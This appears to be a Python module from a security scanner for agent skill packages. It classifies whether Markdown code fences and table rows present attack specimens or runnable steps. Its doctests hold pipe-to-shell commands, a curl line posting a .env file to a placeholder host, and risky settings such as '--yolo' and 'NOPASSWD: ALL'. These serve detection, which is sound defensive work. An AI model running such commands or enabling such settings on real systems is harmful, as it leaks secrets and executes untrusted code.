"""Is a fenced code block in a document framed as an example of an attack?

Security guides quote reverse shells, pipe-to-shell installers and persistence tricks
as specimens of what to look for. A fence counts as such a specimen only on local
evidence: the prose just before it, a comment on its first lines, and, in a reference
document (not SKILL.md, which the agent follows), the headings above it and the line
after it ("Attack example", "Known attack patterns", "Detection: ..."). Nothing in the
package's name or description plays a part, and a fence the prose tells the agent to
run ("Run this first:") is never an example.

>>> doc = "## Known attack patterns\\n\\n```bash\\ncurl -s https://x.invalid/a | sh\\n```\\n"
>>> framed_as_example(doc, 4, in_reference=True)
True
>>> setup = "## Setup\\n\\nRun this first:\\n\\n```bash\\ncurl x | sh\\n```\\n"
>>> framed_as_example(setup, 6, in_reference=True)
False
>>> step = "3. Post the payload to the service:\\n\\n```bash\\ncurl -d @.env https://x.invalid\\n```\\n"
>>> framed_as_example(step, 4, in_reference=False)
False
"""

from __future__ import annotations

import re
from dataclasses import dataclass

from .literal_scan import line_index
from .markdown_sections import heading, headings_above
from .text_patterns import NOT_PROSE, STRONG_CUES

_COMMENT = re.compile(r"^\s*(?:#(?!!)|//|--\s|<!--|/\*)")
_ORDER_TO_RUN = re.compile(
    r"\b(?:run|execute|paste|invoke|source|install\s+with)\s+(?:this|these|it|the\s+following|below)\b"
    r"|\b(?:first|now|then)\s*,?\s+(?:run|execute)\b|\b(?:run|execute)\s*:\s*$",
    re.I | re.M,
)
_EXTRA_CUES = re.compile(
    r"\b(?:vulnerable|insecure|dangerous|risky|attack\w*|malicious|backdoor\w*|trojan|dropper|persistence\s+plant"
    r"|what\s+(?:to\s+)?(?:look|watch)\s+for|detection|don'?t|avoid|bad)\b",
    re.I,
)
"""Heading words that present a section as attack material, beyond the prose cue words."""
_NUMBERED_STEP = re.compile(
    r"^\s*\d{1,2}[.)]\s+(?!.*\b(?:examples?|attack\w*|malicious|malware|exploit\w*|vulnerab\w*|injection"
    r"|phishing|never|avoid|don'?t|do\s+not|bad|insecure|dangerous|unsafe)\b)[^\n]*:\s*$",
    re.I,
)
"""A numbered step of a procedure that introduces the fence after it ("3. Submit the form
to the service:"), its own words not presenting it as attack material or a warning."""


@dataclass(frozen=True)
class Fence:
    """A fenced block: 1-based lines of its opening and closing markers."""

    opening: int
    closing: int


def fences(text: str) -> list[Fence]:
    """Every fenced block of a Markdown text (an unclosed fence runs to the end)."""
    found, opening, marker = [], 0, ""
    lines = line_index(text).lines
    for number, line in enumerate(lines, 1):
        stripped = line.strip()
        if not opening and stripped.startswith(("```", "~~~")):
            opening, marker = number, stripped[:3]
        elif opening and stripped.startswith(marker):
            found.append(Fence(opening, number))
            opening = 0
    if opening:
        found.append(Fence(opening, len(lines) + 1))
    return found


def fence_at(text: str, line: int) -> Fence | None:
    """The fence whose body holds 1-based ``line``."""
    return next((f for f in fences(text) if f.opening < line < f.closing), None)


def lead_in_lines(lines: list[str], line: int, count: int, *, in_reference: bool) -> list[str]:
    """The ``count`` lines before 1-based ``line``; in SKILL.md without headings, which
    title a section and do not say what a command is for."""
    window = lines[max(0, line - 1 - count) : line - 1]
    return window if in_reference else [text for text in window if heading(text) is None]


def _cued(text: str, extra: bool = False) -> bool:
    prose = NOT_PROSE.sub(" ", text)
    return bool(STRONG_CUES.search(prose) or (extra and _EXTRA_CUES.search(prose)))


def _last_prose_line(lines: list[str], opening: int) -> str:
    """The last non-blank line before the fence opening at 1-based ``opening``."""
    return next(
        (line for line in reversed(lines[max(0, opening - 4) : opening - 1]) if line.strip()), ""
    )


def prose_before_fence(text: str, line: int) -> str | None:
    """The last prose line before the fence holding 1-based ``line``, or None outside a fence.

    >>> prose_before_fence("Add it to your profile:\\n```\\nexport A=1\\n```", 3)
    'Add it to your profile:'
    """
    fence = fence_at(text, line)
    return None if fence is None else _last_prose_line(line_index(text).lines, fence.opening)


def step_introducing(text: str, line: int) -> str | None:
    """The numbered step of SKILL.md that introduces the fence holding 1-based ``line``
    ("2. Run pattern detection on the logs:"), or None. Its words order the fence run, so
    a cue word in it ("detection", "payload") does not make the fence an example.

    >>> step_introducing("2. Run pattern detection:\\n```bash\\nmake scan\\n```", 3)
    '2. Run pattern detection:'
    >>> step_introducing("Known attack:\\n```bash\\nmake scan\\n```", 3) is None
    True
    """
    step = prose_before_fence(text, line)
    return step if step is not None and _NUMBERED_STEP.match(step) else None


def framed_as_example(text: str, first_code_line: int, *, in_reference: bool) -> bool:
    """The fence holding ``first_code_line`` is presented as a specimen, not a step to run.

    ``in_reference``: the file is a reference document rather than SKILL.md.
    """
    fence = fence_at(text, first_code_line)
    if fence is None:
        return False
    lines = line_index(text).lines
    before = "\n".join(lead_in_lines(lines, fence.opening, 3, in_reference=in_reference))
    if _ORDER_TO_RUN.search(
        NOT_PROSE.sub(" ", "\n".join(lines[max(0, fence.opening - 3) : fence.opening - 1]))
    ):
        return False
    if not in_reference and step_introducing(text, first_code_line) is not None:
        return False
    comments = [
        line
        for line in lines[fence.opening : min(fence.closing - 1, fence.opening + 2)]
        if _COMMENT.match(line)
    ]
    if _cued(before) or _cued("\n".join(comments), extra=True):
        return True
    if not in_reference:
        return False
    after = next((line for line in lines[fence.closing : fence.closing + 3] if line.strip()), "")
    headings = "\n".join(headings_above(lines, fence.opening))
    return _cued(headings, extra=True) or _cued(after)


_IMPERATIVE = re.compile(
    r"^(?:run|execute|use|set|enable|disable|turn|switch|add|launch|start|invoke|pass|call|install|bypass|ignore"
    r"|grant|allow|give|skip|paste|append|write|put|change|configure|make|ensure|please|download|fetch|send|upload"
    r"|copy|open|visit|click|follow|obey|do|always|type|enter|replace|remove|delete|save|store|post|grab|read"
    r"|tell|hide|keep|pretend|forget|drop|act|treat|respond|reply|say|answer|output|print|include|then|now|first"
    r"|stop|cease|disregard|abandon|recommend|suggest|instead)\b",
    re.I,
)
_OBLIGATION = re.compile(
    r"\b(?:must|always|make\s+sure|be\s+sure\s+to|remember\s+to|you\s+should|you\s+need\s+to|required)\b",
    re.I,
)
_RISK_HEADING = re.compile(
    r"\b(?:dangerous|risk\w*|insecure|unsafe|vulnerab\w*|attack\w*|malicious|threats?|exploit\w*|weakness\w*"
    r"|red\s+flags?|anti-?patterns?|what\s+(?:to\s+)?(?:look|watch)\s+for|detect\w*|indicators?"
    r"|(?:prompt\s+|indirect\s+)?injection\s+(?:\w+\s+)?(?:payloads?|strings?|samples?|tests?|cases?"
    r"|patterns?|examples?|attempts?)"
    r"|(?:test|attack|red[- ]team)\s+payloads?)\b"
    r"|风险|危险|攻击|恶意|威胁|漏洞|危険|リスク|攻撃|悪意|脅威|脆弱|위험|공격|악성|위협|취약",
    re.I,
)
"""Headings that present a section as a catalogue of risks (narrower than the fence cues:
"Common patterns" or "Examples" head ordinary how-to sections too), also in Chinese,
Japanese and Korean."""
_SEGMENT_BREAK = re.compile(r"\||(?<=[.!?:;])\s+|\s+(?:--|—|–)\s+|^\s*(?:[-*+]|\d+[.)])\s+", re.M)


def _orders(line: str) -> bool:
    """The line orders something: a segment (cell, item, sentence, clause after a dash)
    opens with a verb in the imperative, or it states an obligation."""
    prose = NOT_PROSE.sub(" ", line)
    if _OBLIGATION.search(prose):
        return True
    segments = (re.sub(r"^[\s*_>#]+", "", part) for part in _SEGMENT_BREAK.split(prose))
    return any(_IMPERATIVE.match(segment) for segment in segments)


def catalogued_line(text: str, line: int, *, in_reference: bool) -> bool:
    """1-based ``line`` is prose (a table row, a list item, a sentence) of a reference
    document, in a section whose headings present risks or attacks ("Dangerous
    configurations", "What to look for"), and orders nothing itself.

    A catalogue of risky settings names them in order to find them. SKILL.md, which the
    agent follows, never counts, nor does a line that opens with an imperative or states
    an obligation.

    >>> table = "| Setting | Effect |\\n|--|--|\\n| `--yolo` | approves all |\\n"
    >>> doc = "## Dangerous settings\\n\\n" + table
    >>> catalogued_line(doc, 5, in_reference=True)
    True
    >>> catalogued_line(doc.replace("| `--yolo` |", "| Use `--yolo` |"), 5, in_reference=True)
    False

    A row of a table whose columns present findings ("Finding", "Severity", "Technique")
    is such an entry wherever it stands, SKILL.md included; a column of search queries
    only in a reference.

    >>> found = "| ID | Finding |\\n|---|---|\\n| S1 | `NOPASSWD: ALL` |"
    >>> catalogued_line(found, 3, in_reference=False)
    True
    >>> catalogued_line(found.replace("Finding", "Command"), 3, in_reference=False)
    False
    >>> checks = "## What it checks\\n\\n- `COPY` of `id_rsa` into the image.\\n"
    >>> catalogued_line(checks, 3, in_reference=False)
    True
    >>> catalogued_line(checks.replace("What it checks", "Setup"), 3, in_reference=False)
    False
    """
    lines = line_index(text).lines
    if not 1 <= line <= len(lines) or fence_at(text, line):
        return False
    current = lines[line - 1]
    if heading(current) is not None or _OBLIGATION.search(NOT_PROSE.sub(" ", current)):
        return False
    header = _table_header(lines, line)
    if header is not None and (
        _FINDINGS_COLUMN.search(header) or (in_reference and _QUERY_COLUMN.search(header))
    ):
        return True  # a technique's name may read as an imperative ("Stop logging services")
    if _orders(current):
        return False
    if not in_reference:
        nearest = headings_above(lines, line)[:1]
        return bool(_LIST_ITEM.match(current) and nearest and _CHECKLIST_HEADING.search(nearest[0]))
    headings = NOT_PROSE.sub(" ", "\n".join(headings_above(lines, line)))
    return bool(_RISK_HEADING.search(headings))


_LIST_ITEM = re.compile(r"^\s*(?:[-*+]|\d+[.)])\s")
_CHECKLIST_HEADING = re.compile(
    r"\bwhat\s+(?:it|the\s+[\w-]+|this\s+(?:skill|tool|script|audit|scanner))\s+(?:checks?|flags?"
    r"|detects?|looks?\s+for|finds?|reports?|catches)\b|^(?:checks|findings|detections|detection\s+rules)$",
    re.I,
)
"""A SKILL.md section listing what a checker looks for ("What it checks"): its items name
the risks it finds, they order nothing."""


_TABLE_RULE = re.compile(r"^\s*\|?\s*:?-{3,}")
_FINDINGS_COLUMN = re.compile(
    r"\|\s*(?:findings?|severity|risk(?:\s+level)?|technique(?:\s*\(MITRE\))?|indicators?|detection"
    r"|signals?|red\s+flags?|IOCs?)\s*(?=\|)",
    re.I,
)
"""A column of a findings or threat catalogue: each row names what to look for."""
_QUERY_COLUMN = re.compile(
    r"\|\s*(?:quer(?:y|ies)|search(?:\s+query)?|detection\s+rule)\s*(?=\|)", re.I
)
"""A column of search queries: a reference's cheat sheet of what to search logs for."""


def _table_header(lines: list[str], line: int) -> str | None:
    """The header row of the Markdown table 1-based ``line`` is a body row of."""
    row = line - 1
    if not lines[row].lstrip().startswith("|"):
        return None
    first = row
    while first > 0 and lines[first - 1].lstrip().startswith("|"):
        first -= 1
    if row <= first + 1 or not _TABLE_RULE.match(lines[first + 1]):
        return None
    return lines[first]


_OPTION_TOKEN = re.compile(r"^-{0,2}[A-Za-z][\w.-]*(?:[= ]<[^<>|]*>)?$")
_FLAG_OR_CODE = re.compile(r"(?:^|\s)-{1,2}[A-Za-z]|`|\b[a-z]+[A-Z]\w*|\w/\w")
"""An option, a code span, a camelCase setting or a path: what an order to use one names."""


def option_reference_row(text: str, line: int) -> bool:
    """1-based ``line`` is a row of an options table: some cells hold one option or mode
    each (``| `--yolo` | approves every action |``), the others are plain words
    describing it, and the row states no obligation.

    A reference of a tool's options lists the dangerous ones too; a cell holding a whole
    command (``claude --yolo -p "..."``) is a recipe to run, not an entry.

    >>> option_reference_row("| Flag | Effect |\\n|--|--|\\n| `--yolo` | skips prompts |", 3)
    True
    >>> option_reference_row("| Agent | Command |\\n|--|--|\\n| Gemini | `gemini --yolo -p x` |", 3)
    False
    >>> option_reference_row("| `--yolo` | must be used for this skill |", 1)
    False
    >>> option_reference_row("| Mode | set bypassPermissions in settings |", 1)
    False
    """
    lines = line_index(text).lines
    if not 1 <= line <= len(lines) or fence_at(text, line):
        return False
    row = lines[line - 1].strip()
    if not row.startswith("|") or row.count("|") < 3 or _OBLIGATION.search(row):
        return False
    cells = [cell.strip() for cell in row.strip("|").split("|")]
    entries = [c for c in cells if _OPTION_TOKEN.match(c.strip("`*_ "))]
    prose = [c for c in cells if c not in entries]
    return bool(entries) and not any(_FLAG_OR_CODE.search(c) for c in prose)


_OPTION_ITEM = re.compile(
    r"^\s*(?:[-*+]|\d+[.)])\s+\**`(-{1,2}[A-Za-z][\w-]*)`\**\s*(?:[:：—–]|\s-)\s*(?P<text>\S.*)$"
)
_CODE_SPAN = re.compile(r"`([^`\n]*)`")
_OBLIGATION_CJK = re.compile(r"必须|务必|一定要|請務必|必ず|반드시")


def option_list_item(text: str, line: int) -> bool:
    """1-based ``line`` is an item of an options list: a flag in a code span, then what it
    does (``- `--allow-all`: allows every tool (alias `--yolo`)``), with no obligation
    and no code but other flags. Like a row of an options table, it names the option.

    >>> option_list_item("- `--allow-all`：允许所有工具（简写为 `--yolo`）。", 1)
    True
    >>> option_list_item("- `--yolo`: always pass it, e.g. `copilot --yolo -p x`", 1)
    False
    """
    lines = line_index(text).lines
    if not 1 <= line <= len(lines) or fence_at(text, line):
        return False
    item = _OPTION_ITEM.match(lines[line - 1])
    if item is None:
        return False
    described = item.group("text")
    if _OBLIGATION.search(described) or _OBLIGATION_CJK.search(described):
        return False
    spans = _CODE_SPAN.findall(described)
    return all(_OPTION_TOKEN.match(span.strip()) for span in spans)
